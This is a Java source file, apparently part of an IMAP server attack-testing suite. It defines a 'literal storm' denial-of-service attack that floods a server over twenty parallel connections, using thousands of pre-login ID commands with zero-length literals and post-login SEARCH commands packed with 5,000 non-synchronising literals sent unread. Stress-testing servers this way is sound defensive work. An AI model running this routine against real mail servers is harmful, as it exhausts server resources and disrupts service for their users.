package satchel.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Unnamed class (i): empty literals by the thousand. Before login, ID ({0} {0}) round trips (each "+" is a server
 * turn; not LOGIN, whose failures the login throttle would count); after login, SEARCH commands of 5,000
 * non-synchronising {0+} literals each (RFC 7888), unread.
 */
record LiteralStorm() implements Attack {
    @Override public String name() { return "i-literal-storm"; }
    @Override public String what() { return "{0} literal storms: ID ({0} {0}) before login, SEARCH with 5,000 {0+} literals after"; }

    @Override public String run(Ctx ctx) {
        byte[] search = ("s SEARCH" + " TEXT {0+}\r\n".repeat(5_000) + " ALL\r\n").getBytes(StandardCharsets.US_ASCII);
        AtomicLong logins = new AtomicLong();
        AtomicLong searches = new AtomicLong();
        AtomicInteger cut = new AtomicInteger();
        AtomicLong errors = new AtomicLong();
        ctx.parallel(20, errors, i -> {
            try {
                if (i % 2 == 0) {
                    Wire w = ctx.open(0, false, 0);
                    if (!w.line().startsWith("* OK")) return;
                    for (int k = 0; k < 2_000 && ctx.timeLeft(); k++) {
                        w.send("l ID ({0}\r\n");
                        if (!w.until("+", "l").startsWith("+")) break;
                        w.send(" {0}\r\n");
                        if (!w.until("+", "l").startsWith("+")) break;
                        w.send(")\r\n");
                        w.await("l");
                        logins.incrementAndGet();
                    }
                } else {
                    Wire w = ctx.login(0, i, 4096);
                    if (w == null) return;
                    w.command("s", "SELECT INBOX");
                    for (int k = 0; k < 2_000 && ctx.timeLeft(); k++) {
                        w.send(search);
                        searches.incrementAndGet();
                    }
                    ctx.hold();
                }
            } catch (IOException e) {
                cut.incrementAndGet();
            }
        });
        return logins + " ID ({0} {0}) round trips, " + searches + " SEARCHes of 5,000 {0+} sent unread, " + cut + " cut";
    }
}
